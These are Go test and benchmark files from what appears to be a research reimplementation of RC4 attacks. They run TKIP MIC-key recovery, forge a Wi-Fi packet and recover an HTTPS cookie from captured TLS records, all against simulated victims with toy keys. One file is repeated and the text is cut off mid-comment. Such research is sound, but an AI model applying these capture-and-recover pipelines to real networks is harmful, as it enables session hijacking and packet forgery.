// §5.1 statistics generation is bound by (the paper spent 10 CPU-years on
// its 2^32-keys-per-class model).
func BenchmarkTKIPTraining(b *testing.B) {
	msduLen := packet.HeaderSize + 7
	positions := tkip.TrailerPositions(msduLen)
	for n := 0; n < b.N; n++ {
		if _, err := tkip.Train(tkip.TrainConfig{
			Positions:  positions[len(positions)-1],
			KeysPerTSC: 1 << 8,
		}); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkBroadcastBaseline regenerates the AlFardan-style broadcast
// baseline: initial-byte recovery from per-connection ciphertexts.
// Metric: positions recovered out of 16.
func BenchmarkBroadcastBaseline(b *testing.B) {
	for n := 0; n < b.N; n++ {
		res, err := experiments.BroadcastAttack(context.Background(), 1<<19, 1<<19, 16, 0)
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(res.Rows[0].Values[0], "positions/16")
	}
}

// BenchmarkABSABGapVerification regenerates the §4.2 gap measurement.
func BenchmarkABSABGapVerification(b *testing.B) {
	for n := 0; n < b.N; n++ {
		if _, err := experiments.ABSABGapVerification(context.Background(), [16]byte{4}, 8, 256, nil, 0); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkEquation9Search regenerates the eq. 9 long-term equality scan.
func BenchmarkEquation9Search(b *testing.B) {
	for n := 0; n < b.N; n++ {
		if _, err := experiments.Equation9Search(context.Background(), [16]byte{5}, 8, 256, nil, 0); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkTraceIngest measures the trace-ingestion rate in MB/s of
// capture bytes for both attack pipelines: the TKIP path (pcap → radiotap
// → 802.11 → TKIP IV → sniffer-style filtering → per-TSC statistics) and
// the TLS path (pcap → Ethernet/IP/TCP → flow reassembly → TLS record
// scanning → digraph/ABSAB statistics). The capture is generated once by
// netsim's writers and re-ingested per iteration; ingest itself streams at
// O(MB) memory regardless of trace size (TestTraceIngestStreamingMemory
// pins that on a multi-hundred-MB pipe).
func BenchmarkTraceIngest(b *testing.B) {
	b.Run("tkip", func(b *testing.B) {
		model, err := tkip.Train(tkip.TrainConfig{
			Positions:  packet.HeaderSize + 7 + tkip.TrailerSize,
			KeysPerTSC: 8,
			Master:     [16]byte{0x7A},
		})
		if err != nil {
			b.Fatal(err)
		}
		session := tkip.DemoSession()
		victim := netsim.NewWiFiVictim(session, tkip.DemoPayload)
		var buf bytes.Buffer
		pw, err := trace.NewPcapWriter(&buf, trace.LinkTypeRadiotap)
		if err != nil {
			b.Fatal(err)
		}
		fw, err := netsim.NewFrameWriter(pw, trace.LinkTypeRadiotap, session)
		if err != nil {
			b.Fatal(err)
		}
		const frames = 1 << 16 // ~8 MB of capture
		if err := victim.WriteTrace(fw, frames); err != nil {
			b.Fatal(err)
		}
		capture := buf.Bytes()
		b.SetBytes(int64(len(capture)))
		b.ResetTimer()
		for n := 0; n < b.N; n++ {
			a, err := tkip.NewAttack(model, tkip.TrailerPositions(packet.HeaderSize+7))
			if err != nil {
				b.Fatal(err)
			}
			stats, err := tkip.CollectTraceReaders(a, victim.FrameLen(),
				[]io.Reader{bytes.NewReader(capture)}, 0, 0, false)
			if err != nil {
				b.Fatal(err)
			}
			if stats.Matched != frames {
				b.Fatalf("matched %d frames", stats.Matched)
			}
		}
	})
	const secret = "Secur3C00kieVal+"
	req, counterBase, err := netsim.AlignedRequest("site.com", "auth", secret, 64)
	if err != nil {
		b.Fatal(err)
	}
	cfg := cookieattack.Config{
		CookieLen:   16,
		Offset:      req.CookieOffset(),
		Plaintext:   req.Marshal(),
		CounterBase: counterBase,
		MaxGap:      128,
		Charset:     httpmodel.CookieCharset(),
	}
	master := make([]byte, 48)
	rand.New(rand.NewSource(41)).Read(master)
	victim, err := netsim.NewHTTPSVictim(master, req)
	if err != nil {
		b.Fatal(err)
	}
	var buf bytes.Buffer
	pw, err := trace.NewPcapWriter(&buf, trace.LinkTypeEthernet)
	if err != nil {
		b.Fatal(err)
	}
	sw, err := netsim.NewStreamWriter(pw, trace.LinkTypeEthernet)
	if err != nil {
		b.Fatal(err)
	}
	const records = 1 << 14 // ~10 MB of capture
	if err := victim.WriteTrace(sw, records); err != nil {
		b.Fatal(err)
	}
	capture := buf.Bytes()
	b.Run("tls", func(b *testing.B) {
		b.SetBytes(int64(len(capture)))
		for n := 0; n < b.N; n++ {
			a, err := cookieattack.New(cfg)
			if err != nil {
				b.Fatal(err)
			}
			stats, err := cookieattack.CollectTraceReaders(a, victim.RecordPlaintextLen(),
				[]io.Reader{bytes.NewReader(capture)}, 0, 0, false)
			if err != nil {
				b.Fatal(err)
			}
			if stats.Matched != records {
				b.Fatalf("matched %d records", stats.Matched)
			}
		}
	})
	// The parse-bound ceiling of the same pipeline: everything up to and
	// including record matching, with no attack to fold into. The gap
	// between tls and tls-parse is the evidence-folding cost per capture
	// byte (see README "Trace ingestion" for the throughput model).
	b.Run("tls-parse", func(b *testing.B) {
		b.SetBytes(int64(len(capture)))
		for n := 0; n < b.N; n++ {
			stats, err := cookieattack.CollectTraceReaders(nil, victim.RecordPlaintextLen(),
				[]io.Reader{bytes.NewReader(capture)}, 0, 0, false)
			if err != nil {
				b.Fatal(err)
			}
			if stats.Matched != records {
				b.Fatalf("matched %d records", stats.Matched)
			}
		}
	})
}
