// Integration tests for the attack-state persistence subsystem: a capture
// killed mid-collection, resumed from its checkpoint, and merged with an
// independently-captured shard must be indistinguishable from one
// uninterrupted run — same evidence bytes, same candidate list.
package rc4break

import (
	"bytes"
	"errors"
	"math/rand"
	"testing"

	"rc4break/internal/cliutil"
	"rc4break/internal/cookieattack"
	"rc4break/internal/httpmodel"
	"rc4break/internal/netsim"
	"rc4break/internal/online"
	"rc4break/internal/tkip"
	"rc4break/internal/tlsrec"
)

// cookieCaptureRig wires one victim connection to one attack instance
// through the §6.3 scanner, like cmd/cookieattack's exact mode.
type cookieCaptureRig struct {
	victim    *netsim.HTTPSVictim
	collector *tlsrec.CollectRequests
	attack    *cookieattack.Attack
}

func newCookieCaptureRig(t *testing.T, secret string, masterSeed int64) *cookieCaptureRig {
	t.Helper()
	req, counterBase, err := netsim.AlignedRequest("site.com", "auth", secret, 64)
	if err != nil {
		t.Fatal(err)
	}
	attack, err := cookieattack.New(cookieattack.Config{
		CookieLen:   16,
		Offset:      req.CookieOffset(),
		Plaintext:   req.Marshal(),
		CounterBase: counterBase,
		MaxGap:      128,
		Charset:     httpmodel.CookieCharset(),
	})
	if err != nil {
		t.Fatal(err)
	}
	master := make([]byte, 48)
	rand.New(rand.NewSource(masterSeed)).Read(master)
	victim, err := netsim.NewHTTPSVictim(master, req)
	if err != nil {
		t.Fatal(err)
	}
	return &cookieCaptureRig{
		victim:    victim,
		collector: &tlsrec.CollectRequests{WantLen: victim.RecordPlaintextLen()},
		attack:    attack,
	}
}

func (rig *cookieCaptureRig) capture(t *testing.T, n uint64) {
	t.Helper()
	for i := uint64(0); i < n; i++ {
		rec := rig.victim.SendRequest()
		if err := rig.collector.Feed(rec, func(body []byte) {
			if err := rig.attack.ObserveRecord(body); err != nil {
				t.Fatal(err)
			}
		}); err != nil {
			t.Fatal(err)
		}
	}
}

func (rig *cookieCaptureRig) fastForward(n uint64) {
	for i := uint64(0); i < n; i++ {
		rig.victim.SendRequest()
	}
}

func cookieSnapshotBytes(t *testing.T, a *cookieattack.Attack) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := a.WriteSnapshot(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// TestCookieCheckpointResumeMergeEquivalence is the §6 distributed-capture
// acceptance scenario: shard A is killed mid-collection, resumed from its
// checkpoint, and merged with independently-captured shard B; the pooled
// evidence must match — bit for bit — a run in which shard A was never
// interrupted, down to the generated candidate list.
func TestCookieCheckpointResumeMergeEquivalence(t *testing.T) {
	const (
		secret  = "Secur3C00kieVal+"
		total   = 3000 // shard A records
		killAt  = 1300 // records captured before the "crash"
		shardB  = 2000 // independently-seeded shard
		nearSet = 64   // candidate list depth compared at the end
	)

	// Uninterrupted reference run of shard A.
	ref := newCookieCaptureRig(t, secret, 41)
	ref.capture(t, total)

	// Shard A, killed at killAt: snapshot, forget everything, resume.
	partial := newCookieCaptureRig(t, secret, 41)
	partial.capture(t, killAt)
	checkpoint := cookieSnapshotBytes(t, partial.attack)

	resumedAttack, err := cookieattack.ReadSnapshot(bytes.NewReader(checkpoint))
	if err != nil {
		t.Fatal(err)
	}
	resumed := newCookieCaptureRig(t, secret, 41)
	resumed.attack = resumedAttack
	resumed.fastForward(resumedAttack.Records) // skip past the pre-crash stream
	resumed.capture(t, total-killAt)

	if !bytes.Equal(cookieSnapshotBytes(t, ref.attack), cookieSnapshotBytes(t, resumed.attack)) {
		t.Fatal("killed-and-resumed capture differs from uninterrupted run")
	}

	// Shard B: a different victim connection (independent master seed).
	other := newCookieCaptureRig(t, secret, 42)
	other.capture(t, shardB)

	// Merging B into the reference and into the resumed shard must agree.
	if err := ref.attack.Merge(other.attack); err != nil {
		t.Fatal(err)
	}
	if err := resumed.attack.Merge(other.attack); err != nil {
		t.Fatal(err)
	}
	if ref.attack.Records != total+shardB {
		t.Fatalf("pool records = %d", ref.attack.Records)
	}
	if !bytes.Equal(cookieSnapshotBytes(t, ref.attack), cookieSnapshotBytes(t, resumed.attack)) {
		t.Fatal("merged pools differ between uninterrupted and resumed shards")
	}

	// The deliverable itself — the candidate list — matches entry for entry.
	refCands, err := ref.attack.Candidates(nearSet)
	if err != nil {
		t.Fatal(err)
	}
	resCands, err := resumed.attack.Candidates(nearSet)
	if err != nil {
		t.Fatal(err)
	}
	if len(refCands) != len(resCands) {
		t.Fatalf("candidate list lengths differ: %d vs %d", len(refCands), len(resCands))
	}
	for i := range refCands {
		if !bytes.Equal(refCands[i].Plaintext, resCands[i].Plaintext) {
			t.Fatalf("candidate %d differs between uninterrupted and resumed pools", i)
		}
	}
}

// TestTKIPCheckpointResumeMergeEquivalence is the §5 counterpart: an
// exact-mode frame capture killed and resumed, then merged with a second
// shard, must equal the uninterrupted capture bit for bit.
func TestTKIPCheckpointResumeMergeEquivalence(t *testing.T) {
	positions := tkip.TrailerPositions(48)
	model := tkip.SyntheticModel(positions[len(positions)-1], 1.0/512, 3)
	session := &tkip.Session{
		TK:     [16]byte{9, 8, 7, 6, 5, 4, 3, 2, 1, 0, 1, 2, 3, 4, 5, 6},
		MICKey: [8]byte{1, 2, 3, 4, 5, 6, 7, 8},
		TA:     [6]byte{0xaa, 0xbb, 0xcc, 0x00, 0x11, 0x22},
		DA:     [6]byte{0x33, 0x44, 0x55, 0x66, 0x77, 0x88},
		SA:     [6]byte{0x99, 0xaa, 0xbb, 0xcc, 0xdd, 0xee},
	}

	capture := func(a *tkip.Attack, v *netsim.WiFiVictim, n uint64) {
		sniffer := netsim.NewSniffer(v.FrameLen())
		for i := uint64(0); i < n; i++ {
			if f := v.Transmit(); sniffer.Filter(f) {
				a.Observe(f)
			}
		}
	}
	snap := func(a *tkip.Attack) []byte {
		var buf bytes.Buffer
		if err := a.WriteSnapshot(&buf); err != nil {
			t.Fatal(err)
		}
		return buf.Bytes()
	}
	newAttack := func() *tkip.Attack {
		a, err := tkip.NewAttack(model, positions)
		if err != nil {
			t.Fatal(err)
		}
		return a
	}

	const total, killAt = 2600, 1100

	ref := newAttack()
	capture(ref, netsim.NewWiFiVictim(session, []byte("PAYLOAD")), total)

	partial := newAttack()
	capture(partial, netsim.NewWiFiVictim(session, []byte("PAYLOAD")), killAt)
	resumed, err := tkip.ReadAttackSnapshot(bytes.NewReader(snap(partial)), model)
	if err != nil {
		t.Fatal(err)
	}
	victim := netsim.NewWiFiVictim(session, []byte("PAYLOAD"))
	for i := uint64(0); i < resumed.Frames; i++ { // fast-forward the TSC stream
		victim.Transmit()
	}
	capture(resumed, victim, total-killAt)

	if !bytes.Equal(snap(ref), snap(resumed)) {
		t.Fatal("killed-and-resumed capture differs from uninterrupted run")
	}

	// Merge an independently-keyed shard into both; pools must agree.
	shardSession := &tkip.Session{
		TK: [16]byte{1: 1, 15: 9}, MICKey: session.MICKey,
		TA: session.TA, DA: session.DA, SA: session.SA,
	}
	shard := newAttack()
	capture(shard, netsim.NewWiFiVictim(shardSession, []byte("PAYLOAD")), 1500)
	if err := ref.Merge(shard); err != nil {
		t.Fatal(err)
	}
	if err := resumed.Merge(shard); err != nil {
		t.Fatal(err)
	}
	if ref.Frames != total+1500 || !bytes.Equal(snap(ref), snap(resumed)) {
		t.Fatal("merged pools differ between uninterrupted and resumed shards")
	}
}

// onlineCookieCapture adapts a capture rig to the online runtime's
// CaptureTo contract.
func (rig *cookieCaptureRig) onlineCaptureTo(t *testing.T) func(uint64) error {
	return func(target uint64) error {
		rig.capture(t, target-rig.attack.Records)
		return nil
	}
}

// TestOnlineEvidenceMatchesOfflineCapture is the online determinism
// property: an exact-mode online run accumulates bitwise-identical evidence
// to a plain offline capture of the same stream, for any decode cadence and
// any worker count — decoding is a pure function of the evidence and never
// perturbs it.
func TestOnlineEvidenceMatchesOfflineCapture(t *testing.T) {
	const secret = "Secur3C00kieVal+"
	const budget = 1500

	offline := newCookieCaptureRig(t, secret, 77)
	offline.capture(t, budget)
	want := cookieSnapshotBytes(t, offline.attack)

	cadences := []online.Cadence{
		{First: 200},             // geometric
		{First: 250, Every: 300}, // arithmetic
		{First: 1},               // decode-heavy: 1, 2, 4, ...
	}
	for _, cad := range cadences {
		for _, workers := range []int{1, 3} {
			rig := newCookieCaptureRig(t, secret, 77)
			rig.attack.Workers = workers
			_, err := online.Run(online.Config{
				Decoder:       rig.attack,
				Oracle:        &netsim.CookieServer{Secret: []byte(secret)},
				Cadence:       cad,
				MaxCandidates: 8,
				Budget:        budget,
				CaptureTo:     rig.onlineCaptureTo(t),
			})
			if !errors.Is(err, online.ErrBudgetExhausted) {
				t.Fatalf("cadence %+v: expected budget exhaustion at toy scale, got %v", cad, err)
			}
			if !bytes.Equal(cookieSnapshotBytes(t, rig.attack), want) {
				t.Fatalf("cadence %+v workers %d: online evidence differs from offline capture", cad, workers)
			}
		}
	}
}

// TestOnlineKillResume kills an online model-mode run at a mid-cadence
// checkpoint, resumes it from the snapshot, and requires the resumed run to
// finish exactly like an uninterrupted one: same outcome, same
// records-at-success, same rank, and bitwise-identical final evidence.
// Decode points are absolute and model-mode chunks span cadence intervals,
// so the resumed run replays the same chunking — and therefore the same
// noise draws — as the uninterrupted run.
func TestOnlineKillResume(t *testing.T) {
	const secret = "Secur3C00kieVal+"
	const seed = 1
	cad := online.Cadence{First: 1 << 26}
	const budget = 9 << 27
	const depth = 1 << 12

	newAttack := func() *cookieattack.Attack {
		req, counterBase, err := netsim.AlignedRequest("site.com", "auth", secret, 64)
		if err != nil {
			t.Fatal(err)
		}
		a, err := cookieattack.New(cookieattack.Config{
			CookieLen:   16,
			Offset:      req.CookieOffset(),
			Plaintext:   req.Marshal(),
			CounterBase: counterBase,
			MaxGap:      128,
			Charset:     httpmodel.CookieCharset(),
		})
		if err != nil {
			t.Fatal(err)
		}
		return a
	}
	modelCaptureTo := func(a *cookieattack.Attack) func(uint64) error {
		return func(target uint64) error {
			rng := rand.New(rand.NewSource(cliutil.ContinuationSeed(seed, a.Records)))
			return a.SimulateStatistics(rng, []byte(secret), target-a.Records)
		}
	}
	runCfg := func(a *cookieattack.Attack, checkpoint func() error) online.Config {
		return online.Config{
			Decoder:       a,
			Oracle:        &netsim.CookieServer{Secret: []byte(secret)},
			Cadence:       cad,
			MaxCandidates: depth,
			Budget:        budget,
			CaptureTo:     modelCaptureTo(a),
			Checkpoint:    checkpoint,
		}
	}

	// Uninterrupted reference run.
	ref := newAttack()
	refRes, refErr := online.Run(runCfg(ref, nil))

	// Killed run: snapshot at every round, abort after the second.
	killed := newAttack()
	var lastSnapshot []byte
	rounds := 0
	errKilled := errors.New("simulated kill")
	_, err := online.Run(runCfg(killed, func() error {
		lastSnapshot = cookieSnapshotBytes(t, killed)
		rounds++
		if rounds == 2 {
			return errKilled
		}
		return nil
	}))
	if !errors.Is(err, errKilled) {
		t.Fatalf("kill hook: %v", err)
	}
	if lastSnapshot == nil {
		t.Fatal("no checkpoint written before the kill")
	}

	// Resume from the checkpoint and run to completion.
	resumed, err := cookieattack.ReadSnapshot(bytes.NewReader(lastSnapshot))
	if err != nil {
		t.Fatal(err)
	}
	resRes, resErr := online.Run(runCfg(resumed, nil))

	if (refErr == nil) != (resErr == nil) {
		t.Fatalf("outcomes differ: uninterrupted %v, resumed %v", refErr, resErr)
	}
	if refErr == nil {
		if refRes.Observed != resRes.Observed || refRes.Rank != resRes.Rank ||
			!bytes.Equal(refRes.Plaintext, resRes.Plaintext) {
			t.Fatalf("success metrics differ: uninterrupted (obs=%d rank=%d %q), resumed (obs=%d rank=%d %q)",
				refRes.Observed, refRes.Rank, refRes.Plaintext,
				resRes.Observed, resRes.Rank, resRes.Plaintext)
		}
	}
	if !bytes.Equal(cookieSnapshotBytes(t, ref), cookieSnapshotBytes(t, resumed)) {
		t.Fatal("final evidence differs between uninterrupted and killed-and-resumed online runs")
	}
	t.Logf("online outcome: err=%v observed=%d rank=%d rounds(ref)=%d", refErr, refRes.Observed, refRes.Rank, refRes.Rounds)
}

// TestTKIPOnlineEvidenceMatchesOffline repeats the determinism property for
// the §5 attack: an exact-mode online TKIP run accumulates the same capture
// state as an offline one at equal frame counts, regardless of cadence.
func TestTKIPOnlineEvidenceMatchesOffline(t *testing.T) {
	positions := tkip.TrailerPositions(48)
	model := tkip.SyntheticModel(positions[len(positions)-1], 1.0/512, 3)
	session := &tkip.Session{
		TK:     [16]byte{9, 8, 7, 6, 5, 4, 3, 2, 1, 0, 1, 2, 3, 4, 5, 6},
		MICKey: [8]byte{1, 2, 3, 4, 5, 6, 7, 8},
		TA:     [6]byte{0xaa, 0xbb, 0xcc, 0x00, 0x11, 0x22},
		DA:     [6]byte{0x33, 0x44, 0x55, 0x66, 0x77, 0x88},
		SA:     [6]byte{0x99, 0xaa, 0xbb, 0xcc, 0xdd, 0xee},
	}
	const budget = 2000

	snap := func(a *tkip.Attack) []byte {
		var buf bytes.Buffer
		if err := a.WriteSnapshot(&buf); err != nil {
			t.Fatal(err)
		}
		return buf.Bytes()
	}
	capture := func(a *tkip.Attack, v *netsim.WiFiVictim, sn *netsim.Sniffer, n uint64) {
		for i := uint64(0); i < n; i++ {
			if f := v.Transmit(); sn.Filter(f) {
				a.Observe(f)
			}
		}
	}

	offline, err := tkip.NewAttack(model, positions)
	if err != nil {
		t.Fatal(err)
	}
	victim := netsim.NewWiFiVictim(session, []byte("PAYLOAD"))
	capture(offline, victim, netsim.NewSniffer(victim.FrameLen()), budget)
	want := snap(offline)

	for _, cad := range []online.Cadence{{First: 300}, {First: 128, Every: 512}} {
		a, err := tkip.NewAttack(model, positions)
		if err != nil {
			t.Fatal(err)
		}
		v := netsim.NewWiFiVictim(session, []byte("PAYLOAD"))
		sn := netsim.NewSniffer(v.FrameLen())
		oracle := &tkip.TrailerOracle{DA: session.DA, SA: session.SA, MSDU: v.MSDU}
		_, err = online.Run(online.Config{
			Decoder:       a,
			Oracle:        oracle,
			Cadence:       cad,
			MaxCandidates: 8,
			Budget:        budget,
			CaptureTo: func(target uint64) error {
				capture(a, v, sn, target-a.Frames)
				return nil
			},
		})
		if !errors.Is(err, online.ErrBudgetExhausted) {
			t.Fatalf("cadence %+v: expected budget exhaustion at toy scale, got %v", cad, err)
		}
		if !bytes.Equal(snap(a), want) {
			t.Fatalf("cadence %+v: online capture state differs from offline", cad)
		}
	}
}
