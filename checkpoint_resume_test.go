// Integration tests for the attack-state persistence subsystem: a capture
// killed mid-collection, resumed from its checkpoint, and merged with an
// independently-captured shard must be indistinguishable from one
// uninterrupted run — same evidence bytes, same candidate list.
package rc4break

import (
	"bytes"
	"math/rand"
	"testing"

	"rc4break/internal/cookieattack"
	"rc4break/internal/httpmodel"
	"rc4break/internal/netsim"
	"rc4break/internal/tkip"
	"rc4break/internal/tlsrec"
)

// cookieCaptureRig wires one victim connection to one attack instance
// through the §6.3 scanner, like cmd/cookieattack's exact mode.
type cookieCaptureRig struct {
	victim    *netsim.HTTPSVictim
	collector *tlsrec.CollectRequests
	attack    *cookieattack.Attack
}

func newCookieCaptureRig(t *testing.T, secret string, masterSeed int64) *cookieCaptureRig {
	t.Helper()
	req, counterBase, err := netsim.AlignedRequest("site.com", "auth", secret, 64)
	if err != nil {
		t.Fatal(err)
	}
	attack, err := cookieattack.New(cookieattack.Config{
		CookieLen:   16,
		Offset:      req.CookieOffset(),
		Plaintext:   req.Marshal(),
		CounterBase: counterBase,
		MaxGap:      128,
		Charset:     httpmodel.CookieCharset(),
	})
	if err != nil {
		t.Fatal(err)
	}
	master := make([]byte, 48)
	rand.New(rand.NewSource(masterSeed)).Read(master)
	victim, err := netsim.NewHTTPSVictim(master, req)
	if err != nil {
		t.Fatal(err)
	}
	return &cookieCaptureRig{
		victim:    victim,
		collector: &tlsrec.CollectRequests{WantLen: victim.RecordPlaintextLen()},
		attack:    attack,
	}
}

func (rig *cookieCaptureRig) capture(t *testing.T, n uint64) {
	t.Helper()
	for i := uint64(0); i < n; i++ {
		rec := rig.victim.SendRequest()
		if err := rig.collector.Feed(rec, func(body []byte) {
			if err := rig.attack.ObserveRecord(body); err != nil {
				t.Fatal(err)
			}
		}); err != nil {
			t.Fatal(err)
		}
	}
}

func (rig *cookieCaptureRig) fastForward(n uint64) {
	for i := uint64(0); i < n; i++ {
		rig.victim.SendRequest()
	}
}

func cookieSnapshotBytes(t *testing.T, a *cookieattack.Attack) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := a.WriteSnapshot(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// TestCookieCheckpointResumeMergeEquivalence is the §6 distributed-capture
// acceptance scenario: shard A is killed mid-collection, resumed from its
// checkpoint, and merged with independently-captured shard B; the pooled
// evidence must match — bit for bit — a run in which shard A was never
// interrupted, down to the generated candidate list.
func TestCookieCheckpointResumeMergeEquivalence(t *testing.T) {
	const (
		secret  = "Secur3C00kieVal+"
		total   = 3000 // shard A records
		killAt  = 1300 // records captured before the "crash"
		shardB  = 2000 // independently-seeded shard
		nearSet = 64   // candidate list depth compared at the end
	)

	// Uninterrupted reference run of shard A.
	ref := newCookieCaptureRig(t, secret, 41)
	ref.capture(t, total)

	// Shard A, killed at killAt: snapshot, forget everything, resume.
	partial := newCookieCaptureRig(t, secret, 41)
	partial.capture(t, killAt)
	checkpoint := cookieSnapshotBytes(t, partial.attack)

	resumedAttack, err := cookieattack.ReadSnapshot(bytes.NewReader(checkpoint))
	if err != nil {
		t.Fatal(err)
	}
	resumed := newCookieCaptureRig(t, secret, 41)
	resumed.attack = resumedAttack
	resumed.fastForward(resumedAttack.Records) // skip past the pre-crash stream
	resumed.capture(t, total-killAt)

	if !bytes.Equal(cookieSnapshotBytes(t, ref.attack), cookieSnapshotBytes(t, resumed.attack)) {
		t.Fatal("killed-and-resumed capture differs from uninterrupted run")
	}

	// Shard B: a different victim connection (independent master seed).
	other := newCookieCaptureRig(t, secret, 42)
	other.capture(t, shardB)

	// Merging B into the reference and into the resumed shard must agree.
	if err := ref.attack.Merge(other.attack); err != nil {
		t.Fatal(err)
	}
	if err := resumed.attack.Merge(other.attack); err != nil {
		t.Fatal(err)
	}
	if ref.attack.Records != total+shardB {
		t.Fatalf("pool records = %d", ref.attack.Records)
	}
	if !bytes.Equal(cookieSnapshotBytes(t, ref.attack), cookieSnapshotBytes(t, resumed.attack)) {
		t.Fatal("merged pools differ between uninterrupted and resumed shards")
	}

	// The deliverable itself — the candidate list — matches entry for entry.
	refCands, err := ref.attack.Candidates(nearSet)
	if err != nil {
		t.Fatal(err)
	}
	resCands, err := resumed.attack.Candidates(nearSet)
	if err != nil {
		t.Fatal(err)
	}
	if len(refCands) != len(resCands) {
		t.Fatalf("candidate list lengths differ: %d vs %d", len(refCands), len(resCands))
	}
	for i := range refCands {
		if !bytes.Equal(refCands[i].Plaintext, resCands[i].Plaintext) {
			t.Fatalf("candidate %d differs between uninterrupted and resumed pools", i)
		}
	}
}

// TestTKIPCheckpointResumeMergeEquivalence is the §5 counterpart: an
// exact-mode frame capture killed and resumed, then merged with a second
// shard, must equal the uninterrupted capture bit for bit.
func TestTKIPCheckpointResumeMergeEquivalence(t *testing.T) {
	positions := tkip.TrailerPositions(48)
	model := tkip.SyntheticModel(positions[len(positions)-1], 1.0/512, 3)
	session := &tkip.Session{
		TK:     [16]byte{9, 8, 7, 6, 5, 4, 3, 2, 1, 0, 1, 2, 3, 4, 5, 6},
		MICKey: [8]byte{1, 2, 3, 4, 5, 6, 7, 8},
		TA:     [6]byte{0xaa, 0xbb, 0xcc, 0x00, 0x11, 0x22},
		DA:     [6]byte{0x33, 0x44, 0x55, 0x66, 0x77, 0x88},
		SA:     [6]byte{0x99, 0xaa, 0xbb, 0xcc, 0xdd, 0xee},
	}

	capture := func(a *tkip.Attack, v *netsim.WiFiVictim, n uint64) {
		sniffer := netsim.NewSniffer(v.FrameLen())
		for i := uint64(0); i < n; i++ {
			if f := v.Transmit(); sniffer.Filter(f) {
				a.Observe(f)
			}
		}
	}
	snap := func(a *tkip.Attack) []byte {
		var buf bytes.Buffer
		if err := a.WriteSnapshot(&buf); err != nil {
			t.Fatal(err)
		}
		return buf.Bytes()
	}
	newAttack := func() *tkip.Attack {
		a, err := tkip.NewAttack(model, positions)
		if err != nil {
			t.Fatal(err)
		}
		return a
	}

	const total, killAt = 2600, 1100

	ref := newAttack()
	capture(ref, netsim.NewWiFiVictim(session, []byte("PAYLOAD")), total)

	partial := newAttack()
	capture(partial, netsim.NewWiFiVictim(session, []byte("PAYLOAD")), killAt)
	resumed, err := tkip.ReadAttackSnapshot(bytes.NewReader(snap(partial)), model)
	if err != nil {
		t.Fatal(err)
	}
	victim := netsim.NewWiFiVictim(session, []byte("PAYLOAD"))
	for i := uint64(0); i < resumed.Frames; i++ { // fast-forward the TSC stream
		victim.Transmit()
	}
	capture(resumed, victim, total-killAt)

	if !bytes.Equal(snap(ref), snap(resumed)) {
		t.Fatal("killed-and-resumed capture differs from uninterrupted run")
	}

	// Merge an independently-keyed shard into both; pools must agree.
	shardSession := &tkip.Session{
		TK: [16]byte{1: 1, 15: 9}, MICKey: session.MICKey,
		TA: session.TA, DA: session.DA, SA: session.SA,
	}
	shard := newAttack()
	capture(shard, netsim.NewWiFiVictim(shardSession, []byte("PAYLOAD")), 1500)
	if err := ref.Merge(shard); err != nil {
		t.Fatal(err)
	}
	if err := resumed.Merge(shard); err != nil {
		t.Fatal(err)
	}
	if ref.Frames != total+1500 || !bytes.Equal(snap(ref), snap(resumed)) {
		t.Fatal("merged pools differ between uninterrupted and resumed shards")
	}
}
