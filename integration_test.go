// Cross-package integration tests: each exercises one of the paper's
// attack narratives end to end through the public seams of the internal
// packages, in exact mode wherever the statistics allow.
package rc4break

import (
	"bytes"
	"math/rand"
	"strings"
	"testing"

	"rc4break/internal/cookieattack"
	"rc4break/internal/cookiejar"
	"rc4break/internal/httpmodel"
	"rc4break/internal/netsim"
	rc4pkg "rc4break/internal/rc4"
	"rc4break/internal/tkip"
	"rc4break/internal/tlsrec"
)

// TestTKIPNarrative runs §5 front to back: injector retransmits, sniffer
// filters, attack accumulates, candidate list is ICV-pruned, Michael
// inverts, and the forged packet is accepted. Model-mode captures keep it
// fast; the exact-mode pipeline is covered in internal/tkip's tests.
func TestTKIPNarrative(t *testing.T) {
	if testing.Short() {
		t.Skip("integration narrative is slow")
	}
	session := &tkip.Session{
		TK:     [16]byte{11, 22, 33, 44, 55, 66, 77, 88, 99, 11, 22, 33, 44, 55, 66, 77},
		MICKey: [8]byte{0xfe, 0xed, 0xfa, 0xce, 0xca, 0xfe, 0xbe, 0xef},
		TA:     [6]byte{1, 2, 3, 4, 5, 6},
		DA:     [6]byte{7, 8, 9, 10, 11, 12},
		SA:     [6]byte{13, 14, 15, 16, 17, 18},
	}
	victim := netsim.NewWiFiVictim(session, []byte("PAYLOAD"))
	positions := tkip.TrailerPositions(len(victim.MSDU))

	// Sanity: the injector and sniffer plumbing carries real frames.
	inj := netsim.NewTCPInjector(victim)
	sniffer := netsim.NewSniffer(victim.FrameLen())
	inj.Burst(64, func(f tkip.Frame) {
		if !sniffer.Filter(f) {
			t.Fatal("sniffer rejected an injected frame")
		}
	})

	// Model-mode capture against the calibrated synthetic distributions.
	model := tkip.SyntheticModel(positions[len(positions)-1], 1.0/768, 5)
	attack, err := tkip.NewAttack(model, positions)
	if err != nil {
		t.Fatal(err)
	}
	// The true trailer, via a reference decapsulation.
	f := session.Encapsulate(victim.MSDU, 77)
	plain, err := session.Decapsulate(f) // verifies MSDU only
	if err != nil || !bytes.Equal(plain, victim.MSDU) {
		t.Fatal("reference encapsulation broken")
	}
	trailer := referenceTrailer(session, victim.MSDU)
	if err := attack.SimulateCaptures(rand.New(rand.NewSource(6)), trailer, 12<<20); err != nil {
		t.Fatal(err)
	}
	micKey, depth, err := attack.RecoverTrailer(session.DA, session.SA, victim.MSDU, 1<<16)
	if err != nil {
		t.Fatal(err)
	}
	if micKey != session.MICKey {
		t.Fatalf("MIC key mismatch (depth %d)", depth)
	}
	forged := (&tkip.Session{TK: session.TK, MICKey: micKey, TA: session.TA,
		DA: session.DA, SA: session.SA}).Encapsulate([]byte("forged packet 01234567890123456789012345678901234567"), 0xFACE)
	if _, err := session.Decapsulate(forged); err != nil {
		t.Fatalf("forgery rejected: %v", err)
	}
}

func referenceTrailer(s *tkip.Session, msdu []byte) []byte {
	// Re-derive the full plaintext frame body by encapsulating at a known
	// TSC and stripping the encryption with a second encapsulation pass:
	// XORing the two identical-plaintext bodies cancels nothing (same key),
	// so instead rebuild the trailer from first principles via Decapsulate
